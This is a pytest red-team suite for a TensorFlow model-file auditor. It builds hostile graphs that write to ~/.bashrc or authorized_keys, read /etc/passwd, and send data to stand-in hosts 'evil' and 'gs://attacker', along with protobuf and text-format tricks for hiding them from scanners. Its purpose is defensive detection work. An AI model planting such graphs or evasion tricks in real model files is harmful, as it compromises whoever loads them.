"""Red team of the TensorFlow audit: files built to be loaded and run by TensorFlow (tf.saved_model.load,
import_meta_graph, GraphDef parsing) that hid what they do from the reader, and ordinary files it must leave
alone.

Each attack is written with the encoder of test_audit_tensorflow (our own bytes, field numbers from
TensorFlow's protos) and relies on what protobuf parsers do and exporters never write: an unknown group
skipped whole, a field key padded to five bytes whose high bits the C++ parser drops, a message split over
several occurrences of its field (merged by the parser), a string constant kept in tensor_content, and the
text format the loaders also accept (saved_model.pbtxt, a text .meta).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from cpu_time import thread_cpu_seconds
from test_audit_tensorflow import (
    SAVER_FUNCTIONS,
    SAVER_NODES,
    attr,
    attr_list,
    attr_s,
    audit,
    const,
    function,
    graph,
    ld,
    meta_graph,
    mutated,
    node,
    rules,
    saved_model,
    st,
    varint,
    vi,
)

from openscope.audit.blob import Blob
from openscope.audit.engine import detect
from openscope.audit.tf_format import detect as tf_detect

EVIL = function("__inference_call_1", node("w", "WriteFile", "p", "d"))


def evil_saved_model() -> bytes:
    return saved_model(meta_graph(graph(SAVER_NODES, [*SAVER_FUNCTIONS, EVIL])))


# -- the wire format as the loader reads it ----------------------------------------------------------------
@pytest.mark.parametrize("group", [
    varint(99 << 3 | 3) + varint(99 << 3 | 4),  # an empty unknown group
    varint(7 << 3 | 3) + vi(1, 5) + ld(2, b"x") + varint(8 << 3 | 3) + varint(8 << 3 | 4) + varint(7 << 3 | 4),
], ids=["empty", "nested"])
def test_an_unknown_group_does_not_hide_the_graph(tmp_path: Path, group: bytes) -> None:
    """Protobuf parsers skip an unknown group (wire type 3 to its end key) as any unknown field: before the
    SavedModel's fields, and inside its meta graph, it hid nothing from the loader and everything from us."""
    r = audit(tmp_path, group + evil_saved_model())
    assert (r["files"][0]["format"], rules(r)) == ("tensorflow-savedmodel", ["tensorflow.file_write"])
    inner = saved_model(group + meta_graph(graph(SAVER_NODES, [*SAVER_FUNCTIONS, EVIL])))
    r = audit(tmp_path, inner)
    assert (r["files"][0]["format"], rules(r)) == ("tensorflow-savedmodel", ["tensorflow.file_write"])


def test_a_group_that_never_ends_is_malformed_not_clean(tmp_path: Path) -> None:
    data = evil_saved_model()
    cut = saved_model(ld(2, varint(9 << 3 | 3) + vi(1, 1)))  # a meta graph whose group has no end key
    r = audit(tmp_path, data + cut)
    assert "malformed.tensorflow" in rules(r) and "tensorflow.file_write" in rules(r)
    deep = varint(9 << 3 | 3) * 200 + varint(9 << 3 | 4) * 200  # deeper than protobuf's 100: does not load
    r = audit(tmp_path, saved_model(ld(2, deep)) + data)
    assert r["verdict"] != "clean"


def test_a_padded_field_key_is_the_field_the_loader_sees(tmp_path: Path) -> None:
    """protobuf's C++ parser reads a key of up to 5 bytes and keeps its low 32 bits: 0x12 written as
    0x92 0x80 0x80 0x80 0x10 is still SavedModel.meta_graphs, not an unknown field 2**29 + 2."""
    body = meta_graph(graph(SAVER_NODES, [*SAVER_FUNCTIONS, EVIL]))
    padded = vi(1, 1) + bytes([0x92, 0x80, 0x80, 0x80, 0x10]) + varint(len(body)) + body
    r = audit(tmp_path, padded)
    assert (r["files"][0]["format"], rules(r)) == ("tensorflow-savedmodel", ["tensorflow.file_write"])


# -- messages merged from several occurrences -----------------------------------------------------------------
def test_an_attribute_value_split_in_two_is_merged(tmp_path: Path) -> None:
    """A map entry's value given twice (the path, then an empty AttrValue) is one merged value holding the path:
    the reader judged only the last occurrence, and tf.print to a file or a debug url passed."""
    def split(key: str, value: bytes) -> bytes:
        return ld(5, st(1, key) + ld(2, value) + ld(2, b""))

    g = graph([node("p", "PrintV2", "msg", attrs=split("output_stream", attr_s("file:///home/u/.bashrc"))),
               node("d", "DebugIdentityV2", "x", attrs=split("debug_urls", attr_list("grpc://evil:8000")))])
    r = audit(tmp_path, g, "graph.pb")
    assert rules(r) == ["tensorflow.debug_output", "tensorflow.file_write"]


def test_a_constant_split_in_two_is_merged(tmp_path: Path) -> None:
    """The Const's tensor given as two occurrences (its dtype in one, its string in the other) is one tensor
    to the loader: the path outside the model is still traced."""
    value = ld(8, vi(1, 7)) + ld(8, st(8, "/home/user/.bashrc"))
    g = graph([node("where", "Const", attrs=attr("value", value)), node("save", "SaveSlices", "where", "n", "s", "d")])
    r = audit(tmp_path, g, "graph.pb")
    assert rules(r) == ["tensorflow.constant_path"] and "/home/user/.bashrc" in r["findings"][0]["detail"]


def test_a_string_constant_in_tensor_content(tmp_path: Path) -> None:
    """TensorFlow decodes a string tensor from tensor_content too (one varint length per element, then the
    bytes): a scalar path kept there is the constant the saver writes to."""
    path = b"/home/user/.ssh/authorized_keys"
    scalar = ld(8, vi(1, 7) + ld(2, b"") + ld(4, varint(len(path)) + path))
    vector = ld(8, vi(1, 7) + ld(2, ld(2, vi(1, 2))) + ld(4, varint(len(path)) + varint(1) + path + b"x"))
    for value in (scalar, vector):
        g = graph([node("where", "Const", attrs=attr("value", value)), node("save", "Save", "where", "n", "d")])
        r = audit(tmp_path, g, "graph.pb")
        assert rules(r) == ["tensorflow.constant_path"], value
    # a DT_STRING enum padded with high bits (read as a 32-bit enum) is still DT_STRING
    padded = ld(8, varint(1 << 3) + varint(7 | 1 << 40) + st(8, path.decode()))
    g = graph([node("where", "Const", attrs=attr("value", padded)), node("save", "Save", "where", "n", "d")])
    assert rules(audit(tmp_path, g, "graph.pb")) == ["tensorflow.constant_path"]


def test_a_graph_split_over_two_graph_def_fields_is_one_graph(tmp_path: Path) -> None:
    """MetaGraphDef.graph_def is one message: the loader merges a graph given in two pieces, so the constant in
    the first piece is the path of the saver in the second."""
    first = graph([const("where", "/etc/cron.d/job")])
    second = graph([node("save", "SaveSlices", "where", "n", "s", "d")])
    meta = ld(2, first) + ld(2, second)
    r = audit(tmp_path, saved_model(meta))
    assert rules(r) == ["tensorflow.constant_path"]
    r = audit(tmp_path, meta, "model.ckpt.meta")
    assert rules(r) == ["tensorflow.constant_path"]


# -- ops that were not listed --------------------------------------------------------------------------------
@pytest.mark.parametrize(("op", "rule"), [
    ("SnapshotDatasetReader", "tensorflow.file_read"), ("SnapshotChunkDataset", "tensorflow.file_read"),
    ("Rpc", "tensorflow.network"), ("TryRpc", "tensorflow.network"), ("DatasetFromGraph", "tensorflow.hidden_graph"),
])
def test_more_listed_ops(tmp_path: Path, op: str, rule: str) -> None:
    r = audit(tmp_path, graph([node("x", "Placeholder"), node("bad", op, "x")]), "frozen.pb")
    assert rules(r) == [rule]


def test_ops_that_read_or_send_by_their_attributes(tmp_path: Path) -> None:
    """decode_proto reads its descriptors from the file descriptor_source names; a Copy with debug_ops_spec
    runs tfdbg ops that dump or stream the tensor. Their defaults (local://, no spec) are not reported."""
    g = graph([node("dp", "DecodeProtoV2", "b", attrs=attr("descriptor_source", attr_s("/etc/passwd"))),
               node("cp", "Copy", "x", attrs=attr("debug_ops_spec", attr_list("DebugIdentity;file:///tmp/d;0")))])
    r = audit(tmp_path, g, "graph.pb")
    assert rules(r) == ["tensorflow.debug_output", "tensorflow.file_read"]
    benign = graph([node("dp", "DecodeProtoV2", "b"),
                    node("dp2", "EncodeProto", "s", "v", attrs=attr("descriptor_source", attr_s("local://"))),
                    node("dp3", "DecodeProtoV2", "b", attrs=attr("descriptor_source", attr_s("global://"))),
                    node("cp", "Copy", "x"), node("ch", "CopyHost", "x", attrs=attr("tensor_name", attr_s("x:0")))])
    r = audit(tmp_path, benign, "graph.pb")
    assert (r["files"][0]["format"], r["findings"]) == ("tensorflow-graphdef", [])


# -- ordinary files of a model folder stay what they are --------------------------------------------------
def test_ordinary_files_beside_a_saved_model_are_not_tensorflow(tmp_path: Path) -> None:
    """What a publisher ships beside a SavedModel, and other model formats, are not read as TensorFlow graphs
    and raise nothing: the variables index (an SSTable whose first entry is the bundle header), the
    variables' raw tensor bytes, a TF Hub module's tfhub_module.pb, a TFLite flatbuffer, a tokenizer.json."""
    import json
    import random
    import struct

    header = vi(1, 1) + ld(3, vi(1, 1))  # BundleHeaderProto: num_shards, version.producer
    entry = vi(1, 1) + ld(2, ld(2, vi(1, 4)) + ld(2, vi(1, 8))) + vi(5, 128) + b"\x35" + bytes(4)
    index = bytes([0, 0, len(header)]) + header + bytes([0, 12, len(entry)]) + b"dense/kernel" + entry \
        + bytes(4) + struct.pack("<I", 1) + b"\x00" + bytes(4) + bytes(40) + struct.pack("<Q", 0xdb4775248b80fb57)
    rng = random.Random(7)
    data = b"".join(struct.pack("<f", rng.gauss(0, 0.05)) for _ in range(4096))
    # a well-formed TFLite root (the audit reads TFLite now): a vtable of one field, the schema version 3
    tflite = struct.pack("<I", 16) + b"TFL3" + struct.pack("<HHH", 6, 8, 4) + bytes(2) + struct.pack("<iI", 8, 3) \
        + bytes(64)
    files = {"variables.index": index, "variables.data-00000-of-00001": data, "tfhub_module.pb": vi(1, 3),
             "model.tflite": tflite,
             "tokenizer.json": json.dumps({"version": "1.0", "model": {"type": "BPE", "vocab": {"a": 0}}}).encode()}
    for name, content in files.items():
        assert tf_detect(Blob(content, 0, len(content), name)) is None, name
        assert detect(Blob(content, 0, len(content), name)) not in ("protobuf", "tensorflow-graphdef"), name
        r = audit(tmp_path, content, name)
        assert r["findings"] == [] and r["verdict"] == "clean", name


def test_the_trial_stays_cheap_for_other_files() -> None:
    """A 50 MB random file and a 50 MB safetensors file are turned away by the TensorFlow trial within a few
    bytes (the group and key rules added here read no further)."""
    import json
    import os
    import struct

    noise = os.urandom(50_000_000)
    hdr = json.dumps({"w": {"dtype": "F32", "shape": [12_500_000], "data_offsets": [0, 50_000_000]}}).encode()
    st_file = struct.pack("<Q", len(hdr)) + hdr + bytes(50_000_000)
    for data in (noise, st_file):
        blob = Blob(data, 0, len(data), "x")
        t = thread_cpu_seconds()
        for _ in range(100):
            tf_detect(blob)
        assert (thread_cpu_seconds() - t) / 100 < 0.005


# -- bounds that decided 'not TensorFlow' on what they had not read ---------------------------------------
def test_padding_inside_the_meta_graph_is_not_a_clean_other(tmp_path: Path) -> None:
    """A million unknown fields inside the meta graph, before its graph_def: the loader skips them, the trial
    stopped at its bound and called the file 'other' (clean). Now the file is not judged, never clean."""
    pad = (vi(15, 1) + vi(14, 2)) * 500_001
    data = saved_model(pad + ld(2, graph(SAVER_NODES, [*SAVER_FUNCTIONS, EVIL])))
    r = audit(tmp_path, data)
    assert r["verdict"] != "clean"
    assert r["files"][0]["format"] in ("protobuf", "tensorflow-savedmodel")


def test_fields_before_every_op_do_not_hide_a_frozen_graph(tmp_path: Path) -> None:
    """Ten thousand inputs before the op field of each of the first nodes (protobuf reads fields in any order)
    kept the trial from seeing any op: the frozen graph was 'other' and clean."""
    inputs = b"".join(st(3, "x") for _ in range(10_001))
    nodes = [st(1, f"n{i}") + inputs + st(2, "Identity") for i in range(8)]
    data = b"".join(ld(1, n) for n in nodes) + ld(1, node("w", "WriteFile", "p", "d"))
    r = audit(tmp_path, data, "frozen.pb")
    assert r["verdict"] != "clean"


def test_a_huge_group_is_not_judged_rather_than_skipped_for_ever(tmp_path: Path) -> None:
    """A group of more than the skip bound (a quarter million fields) before the SavedModel: bounded time, and
    the file is not judged rather than clean."""
    data = varint(9 << 3 | 3) + vi(1, 1) * 250_000 + varint(9 << 3 | 4) + evil_saved_model()
    t = thread_cpu_seconds()
    r = audit(tmp_path, data)
    assert thread_cpu_seconds() - t < 10
    assert r["verdict"] != "clean"


# -- the text format the loaders also accept --------------------------------------------------------------
PBTXT_EVIL = r'''# written by hand: tf.saved_model.load reads saved_model.pbtxt when there is no saved_model.pb
saved_model_schema_version: 1
meta_graphs {
  meta_info_def { tags: "serve" tensorflow_version: "2.15.0" }
  graph_def {
    node { name: "saver_filename" op: "Placeholder" attr { key: "dtype" value { type: DT_STRING } } }
    library {
      function {
        signature { name: "__inference_serve_12" output_arg { name: "out" type: DT_STRING } }
        node_def { name: "path" op: "Const"
          attr { key: "value" value { tensor { dtype: DT_STRING tensor_shape {} string_val: "/etc/passwd" } } }
          attr { key: "dtype" value { type: DT_STRING } } }
        node_def { name: "ReadFile" op: "ReadFile" input: "path:output:0" }
        ret { key: "out" value: "ReadFile:contents:0" }
      }
    }
  }
  signature_def { key: "serving_default" value { method_name: "tensorflow/serving/predict" } }
}
'''


def test_a_text_saved_model_is_judged(tmp_path: Path) -> None:
    """saved_model.pbtxt: the same graph in protobuf's text format, which the loaders read when no
    saved_model.pb is there; it was listed as `other` and clean."""
    r = audit(tmp_path, PBTXT_EVIL.encode(), "saved_model.pbtxt")
    assert r["files"][0]["format"] == "tensorflow-text"
    [f] = r["findings"]
    assert (f["rule"], f["import"]) == ("tensorflow.file_read", "ReadFile")
    assert "'__inference_serve_12'" in f["detail"] and "the constant '/etc/passwd'" in f["detail"]


def test_text_meta_graph_and_graph_def(tmp_path: Path) -> None:
    """import_meta_graph parses a .meta that is not binary as text; a GraphDef written with as_text=True is
    parsed with text_format. Angle brackets, list syntax, a comment first, escapes and adjacent strings are the
    text format's too."""
    meta = (b'meta_info_def < tags: "train" >\ngraph_def {\n  node [{ name: "w" op: "Write" "File" input: "p" },\n'
            b'        { name: "x" op: "Placeholder" }]\n  versions { producer: 27 }\n}\n'
            b'asset_file_def { tensor_info { name: "a:0" } filename: "..\\x2f..\\x2fhome/u/.ssh/id_rsa" }\n')
    r = audit(tmp_path, meta, "model.ckpt.meta")
    assert (r["files"][0]["format"], rules(r)) == ("tensorflow-text",
                                                    ["tensorflow.asset.path_traversal", "tensorflow.file_write"])
    frozen = (b'# frozen graph\nversion: 1\nnode {\n  name: "p"\n  op: "PrintV2"\n  input: "m"\n  attr {\n'
              b'    value { s: "file:///home/u/.bashrc" }\n    key: "output_stream"\n  }\n}\n'
              b'node { name: "where" op: "Const" attr { key: "value" value { tensor {\n'
              b'  dtype: DT_STRING tensor_shape { } tensor_content: "\\027/home/user/.profile.d/x" } } } }\n'
              b'node { name: "s" op: "SaveSlices" input: "where" input: "n" input: "sl" input: "d" }\n')
    r = audit(tmp_path, frozen, "graph.pbtxt")
    assert (r["files"][0]["format"], rules(r)) == ("tensorflow-text",
                                                    ["tensorflow.constant_path", "tensorflow.file_write"])


def test_a_lambda_in_a_text_saved_model_object_graph(tmp_path: Path) -> None:
    import json

    from test_audit_tensorflow import DENSE, LAMBDA

    meta = json.dumps({"class_name": "Sequential", "config": {"layers": [DENSE, LAMBDA]}})
    escaped = meta.replace("\\", "\\\\").replace('"', '\\"')
    text = ('meta_graphs {\n  graph_def { node { name: "x" op: "Placeholder" } }\n  object_graph_def {\n'
            f'    nodes {{ user_object {{ identifier: "_tf_keras_network" metadata: "{escaped}" }} }}\n  }}\n}}\n')
    r = audit(tmp_path, text.encode(), "saved_model.pbtxt")
    assert "keras.lambda" in rules(r)


def test_benign_text_graphs_and_other_pbtxt_files(tmp_path: Path) -> None:
    """A benign text SavedModel is clean; a label map, a pipeline config, a checkpoint state file, YAML whose
    first key is `version` and prose are not read as graphs at all."""
    benign = PBTXT_EVIL.replace('op: "ReadFile"', 'op: "StringLength"').encode()
    r = audit(tmp_path, benign, "saved_model.pbtxt")
    assert (r["files"][0]["format"], r["findings"]) == ("tensorflow-text", [])
    others = {
        "label_map.pbtxt": b'item {\n  name: "/m/01g317"\n  id: 1\n  display_name: "person"\n}\n',
        "pipeline.config": b"model {\n  ssd {\n    num_classes: 90\n  }\n}\n",
        "checkpoint": b'model_checkpoint_path: "model.ckpt-1000"\nall_model_checkpoint_paths: "model.ckpt-1000"\n',
        "compose.yml": b'version: "3.8"\nservices:\n  web:\n    image: nginx\n',
        "README.md": b"# Model\n\nnode { is a word here } and more prose.\n",
    }
    for name, content in others.items():
        assert detect(Blob(content, 0, len(content), name)) != "tensorflow-text", name
        r = audit(tmp_path, content, name)
        assert r["findings"] == [] and r["verdict"] == "clean", name


def test_broken_and_hostile_text(tmp_path: Path) -> None:
    """A text graph that does not parse is malformed (never clean) and what came before the break is judged;
    deep nesting and long strings cost bounded time."""
    cut = b'node { name: "r" op: "ReadFile" input: "x" }\nnode { name: "y" op: '
    r = audit(tmp_path, cut, "graph.pbtxt")
    assert rules(r) == ["malformed.tensorflow", "tensorflow.file_read"]
    deep = b"node { attr { key: \"k\" value { list { " + b"func { attr { key: \"a\" value { " * 20_000
    t = thread_cpu_seconds()
    r = audit(tmp_path, deep, "graph.pbtxt")
    assert thread_cpu_seconds() - t < 10 and r["verdict"] != "clean"
    long = b'node { name: "' + b"x" * 5_000_000 + b'" op: "WriteFile" }\n'
    r = audit(tmp_path, long, "graph.pbtxt")
    assert rules(r) == ["tensorflow.file_write"]


def test_leading_comments_are_bounded_and_do_not_hide_a_pbtxt(tmp_path: Path) -> None:
    """The loaders read past any amount of leading comments: past the content test's 64 KiB of them, a file
    named as text protobufs are is still read as one; any other file is turned away in bounded time."""
    pad = b"# padding\n" * 20_000
    r = audit(tmp_path, pad + PBTXT_EVIL.encode(), "saved_model.pbtxt")
    assert (r["files"][0]["format"], rules(r)) == ("tensorflow-text", ["tensorflow.file_read"])
    hostile = b"#\n" * 10_000_000
    t = thread_cpu_seconds()
    assert detect(Blob(hostile, 0, len(hostile), "notes.txt")) == "headerless"
    assert thread_cpu_seconds() - t < 0.5


def test_mutated_text_graphs_never_break_the_scan() -> None:
    """Seeded random mutations of a text SavedModel and a text GraphDef (bytes changed, cut, inserted; braces,
    quotes and escapes among them): every one is scanned without an exception, quickly."""
    import random

    from openscope.audit.engine import Engine

    bases = [PBTXT_EVIL.encode(), b'node { name: "p" op: "PrintV2" attr { key: "output_stream" value { s: "f\\x41" '
             b'"b" } } }\nnode < name: "c" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING '
             b'tensor_content: "\\003abc" } } } >\nlibrary { function { signature { name: "f" } node_def [{ op: "W" }] } }']
    rng = random.Random(20261130)
    t = thread_cpu_seconds()
    for _ in range(600):
        data = mutated(rng, rng.choice(bases), lambda: rng.choice(b'{}<>[]:;,"\'\\#\n x0'), changed=0.4, cut=0.6)
        Engine().scan_blob(Blob(data, 0, len(data), "saved_model.pbtxt"))
    assert thread_cpu_seconds() - t < 20


# -- paths the graph builds instead of pinning ----------------------------------------------------------------
def test_a_path_joined_from_constants_is_the_constant_path(tmp_path: Path) -> None:
    """StringJoin of two constants (or a Select between constants) is as pinned as one constant: the saver
    wrote to '/home/u/' + '.bashrc' and the reader, which followed only Identity-like nodes, saw nothing."""
    g = graph([const("a", "/home/u"), const("b", ".bashrc"),
               node("j", "StringJoin", "a", "b", attrs=attr("separator", attr_s("/"))),
               node("save", "SaveSlices", "j", "n", "s", "d"),
               const("c", "model"), const("d", "gs://attacker/loot"), node("sel", "Select", "cond", "c", "d"),
               node("restore", "RestoreV2", "sel", "n", "s")])
    r = audit(tmp_path, g, "graph.pb")
    assert rules(r) == ["tensorflow.constant_path", "tensorflow.constant_path"]
    details = " ".join(f["detail"] for f in r["findings"])
    assert "'/home/u/.bashrc'" in details and "gs://attacker/loot" in details


def test_a_path_the_graph_computes_is_for_review(tmp_path: Path) -> None:
    """A saver whose path comes from an op that computes it (RegexReplace, a string variable restored from the
    checkpoint) writes where the graph decides at run time: no exporter builds one; reported for review."""
    g = graph([const("x", "x"), node("re", "RegexReplace", "x", "pat", "rewrite"),
               node("save", "SaveV2", "re:0", "n", "s", "d"),
               node("v", "ReadVariableOp", "var"), node("merge", "MergeV2Checkpoints", "v", "v")])
    r = audit(tmp_path, g, "graph.pb")
    assert [(f["rule"], f["severity"]) for f in r["findings"]] == [("tensorflow.computed_path", "medium")] * 2
    assert r["verdict"] == "review"


def test_the_savers_exporters_write_stay_clean(tmp_path: Path) -> None:
    """TF2's _traced_save (the prefix argument, a Select between two relative suffixes, StringJoin,
    ShardedFilename, Pack) and TF1's sharded saver (save/Const 'model', a temp-part constant) are not
    reported, nor a saver fed by a Placeholder."""
    tf2 = function("__inference__traced_save_9",
                   node("StaticRegexFullMatch", "StaticRegexFullMatch", "file_prefix"),
                   const("Const", ".part"), const("Const_1", "_temp/part"),
                   node("Select", "Select", "StaticRegexFullMatch:output:0", "Const:output:0", "Const_1:output:0"),
                   node("StringJoin", "StringJoin", "file_prefix", "Select:output:0"),
                   node("ShardedFilename", "ShardedFilename", "StringJoin:output:0", "shard", "num_shards"),
                   node("SaveV2", "SaveV2", "ShardedFilename:filename:0", "names", "slices"),
                   node("Pack", "Pack", "ShardedFilename:filename:0"),
                   node("Merge", "MergeV2Checkpoints", "Pack:output:0", "file_prefix"),
                   node("RestoreV2", "RestoreV2", "file_prefix", "names", "slices"))
    tf1 = [const("save/Const", "model"), const("save/StringJoin/inputs_1", "_temp_0f3a/part"),
           node("save/StringJoin", "StringJoin", "save/Const", "save/StringJoin/inputs_1"),
           node("save/ShardedFilename", "ShardedFilename", "save/StringJoin", "save/shard", "save/num_shards"),
           node("save/SaveV2", "SaveV2", "save/ShardedFilename", "save/names", "save/slices"),
           node("save/Pack", "Pack", "save/ShardedFilename"),
           node("save/MergeV2Checkpoints", "MergeV2Checkpoints", "save/Pack", "save/Const"),
           node("save/RestoreV2", "RestoreV2", "save/Const", "save/names", "save/slices"),
           node("prefix", "Placeholder"), node("save2", "SaveV2", "prefix", "n", "s")]
    r = audit(tmp_path, saved_model(meta_graph(graph([*SAVER_NODES, *tf1], [tf2]))))
    assert (r["files"][0]["format"], r["findings"]) == ("tensorflow-savedmodel", [])


def test_a_saved_model_shaped_as_onnx_is_still_judged_as_tensorflow(tmp_path: Path) -> None:
    """SavedModel's fields 1 (schema version) and 2 (meta graphs) have ONNX's numbers and wire types for
    ir_version and producer_name; one unknown field 7 (TensorFlow skips it) made the file 'ONNX', which won,
    and the graph was never read. A real ONNX model keeps its format."""
    data = evil_saved_model() + ld(7, b"")
    r = audit(tmp_path, data)
    assert r["files"][0]["format"] == "tensorflow-savedmodel"
    assert rules(r) == ["hostile.polyglot", "tensorflow.file_write"]
    onnx = vi(1, 8) + st(2, "pytorch") + ld(7, ld(1, st(1, "x") + st(2, "y") + st(3, "n") + st(4, "Relu"))) \
        + ld(8, st(1, "") + vi(2, 17))
    assert detect(Blob(onnx, 0, len(onnx), "m.onnx")) == "onnx"


def test_unicode_blanks_and_hex_enums_in_text_graphs(tmp_path: Path) -> None:
    """Python's text_format (the loader's parser) takes Unicode blanks (U+00A0, U+3000, the ASCII separators
    0x1c-0x1f) for blanks and reads enums as numbers in any base: they hid the graph or the string constant."""
    evil = 'node\u00a0{ name: "w"\u3000op: "WriteFile" input: "p" }\n'.encode()
    for lead in (b"", b"\x1c", "\u2003".encode()):
        r = audit(tmp_path, lead + evil, "graph.pbtxt")
        assert (r["files"][0]["format"], rules(r)) == ("tensorflow-text", ["tensorflow.file_write"]), lead
    hexed = (b'node { name: "c" op: "Const" attr { key: "value" value { tensor { dtype: 0x7 string_val: "/etc/x" } } } }'
             b'\nnode { name: "s" op: "Save" input: "c" input: "n" input: "d" }\n')
    assert rules(audit(tmp_path, hexed, "graph.pbtxt")) == ["tensorflow.constant_path"]


# -- decoys before the evidence ------------------------------------------------------------------------------
def test_decoy_meta_graphs_graph_defs_and_libraries_do_not_hide_the_graph(tmp_path: Path) -> None:
    """The trial looked at the first eight meta graphs, the first graph_def of a meta graph and the first
    library of a graph: empty ones first (a SavedModel may hold meta graphs of other tags; singular messages
    are merged from all their occurrences) made a loadable SavedModel a clean 'other'."""
    real = meta_graph(graph([], [*SAVER_FUNCTIONS, EVIL]))
    decoys = b"".join(ld(2, vi(9, i + 1)) for i in range(8))
    r = audit(tmp_path, vi(1, 1) + decoys + ld(2, real))
    assert (r["files"][0]["format"], rules(r)) == ("tensorflow-savedmodel", ["tensorflow.file_write"])
    split_meta = ld(2, b"") + ld(2, graph([], [*SAVER_FUNCTIONS, EVIL]))  # an empty graph_def first
    r = audit(tmp_path, vi(1, 1) + ld(2, split_meta))
    assert (r["files"][0]["format"], rules(r)) == ("tensorflow-savedmodel", ["tensorflow.file_write"])
    split_lib = ld(2, b"") + ld(2, ld(1, EVIL))  # an empty library first, then the functions
    r = audit(tmp_path, vi(1, 1) + ld(2, ld(2, split_lib)))
    assert (r["files"][0]["format"], rules(r)) == ("tensorflow-savedmodel", ["tensorflow.file_write"])


def test_the_trial_budget_bounds_many_decoys(tmp_path: Path) -> None:
    """Every meta graph is checked now, within one budget of fields for the whole trial: 350,000 decoy meta
    graphs of four fields (each read as a meta graph, a graph and a library: past the budget) cost bounded
    time and leave the file not judged, never clean."""
    decoys = b"".join(ld(2, vi(9, i + 1) + vi(10, 1) + vi(11, 1) + vi(12, 1)) for i in range(350_000))
    data = vi(1, 1) + decoys + ld(2, meta_graph(graph([], [EVIL])))
    t = thread_cpu_seconds()
    r = audit(tmp_path, data)
    assert thread_cpu_seconds() - t < 30
    assert r["verdict"] != "clean"


def test_an_asset_constant_behind_an_identity_is_the_loaders(tmp_path: Path) -> None:
    """A TF1 table initializer reading its asset through an Identity: the constant holds the export-time
    absolute path, which the loader replaces (asset_file_def binds it); it is not the file's own path."""
    nodes = [*SAVER_NODES, const("asset_path_0", "/tmp/export/assets/vocab.txt"),
             node("vocab", "Identity", "asset_path_0"),
             node("init", "InitializeTableFromTextFileV2", "table", "vocab")]
    r = audit(tmp_path, saved_model(meta_graph(graph(nodes, SAVER_FUNCTIONS), assets=["vocab.txt"])))
    assert (r["files"][0]["format"], r["findings"]) == ("tensorflow-savedmodel", [])


def test_text_lists_of_messages_keep_their_meaning(tmp_path: Path) -> None:
    """Messages written as `[ {..}, {..} ]` are the same fields: an asset's tensor_info given so still binds
    its constant (no false alarm), and nodes given so are still judged."""
    text = (b'meta_graphs { graph_def { node [{ name: "asset_path_0" op: "Const" attr { key: "value" value { tensor {'
            b' dtype: DT_STRING string_val: "/tmp/export/assets/vocab.txt" } } } },\n'
            b'  { name: "init" op: "InitializeTableFromTextFileV2" input: "t" input: "asset_path_0" }] }\n'
            b'  asset_file_def { tensor_info [{ name: "asset_path_0:0" }] filename: "vocab.txt" } }\n')
    r = audit(tmp_path, text, "saved_model.pbtxt")
    assert (r["files"][0]["format"], r["findings"]) == ("tensorflow-text", [])
    r = audit(tmp_path, text.replace(b'filename: "vocab.txt"', b'filename: "/etc/passwd"'), "saved_model.pbtxt")
    assert rules(r) == ["tensorflow.asset.path_traversal"]
